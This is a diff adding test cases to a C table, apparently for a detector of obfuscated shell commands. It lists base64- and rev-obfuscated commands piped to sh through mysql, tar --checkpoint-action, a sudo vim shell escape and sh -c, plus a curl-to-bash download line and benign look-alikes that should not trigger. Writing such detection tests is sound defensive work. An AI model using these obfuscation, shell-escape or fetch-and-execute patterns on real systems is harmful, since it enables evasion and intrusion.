@@ -63,6 +63,14 @@ static const struct row {
 		{ "x", "Runtime.getRuntime().exec(new "
 		       "String(Base64.getDecoder().decode("
 		       "\"dW5hbWUgLWE=\")))" } },
+	/* What other programs hand to a shell. */
+	{ "base64", "id", { "mysql", "-e", "\\! echo aWQ=|base64 -d|sh" } },
+	{ "reverse", "id;ls",
+		{ "tar", "cf", "x", "y",
+			"--checkpoint-action=exec=echo 'sl;di'|rev|sh" } },
+	{ "reverse", "id;ls",
+		{ "sudo", "vim", "-c", ":!echo 'sl;di'|$(which rev)|sh" } },
+	{ "reverse", "id;ls", { "sh", "-cecho 'sl;di'|rev|sh" } },
 	/* A parameter's value that decodes something. */
 	{ "base64", "curl -fsSL http://203.0.113.5/init.sh | bash",
 		{ "curl", "-g",
@@ -110,6 +118,9 @@ static const char *const not [][PAYLOAD_ARGS_MAX] = {
 	{ "pwsh", "-c",
 		"$s=New-Object IO.Compression.DeflateStream($out,[IO."
 		"Compression.CompressionMode]::Compress)" },
+	{ "mysql", "-e", "select 'a|b' from $x; -- ! id|sh" },
+	{ "git", "commit", "-m", "!echo 'sl;di'|rev|cat" },
+	{ "rsync", "-e", "ssh -p 22 -i $HOME/.ssh/k", "x", "h:" },
 	/* Who only asks about it. */
 	{ "curl", "-s", "https://h/search?q=base64+-d+linux+%28how%29" },
 	{ "curl", "-s", "https://h/search?q=echo+foo+%7C+base64+-d" },
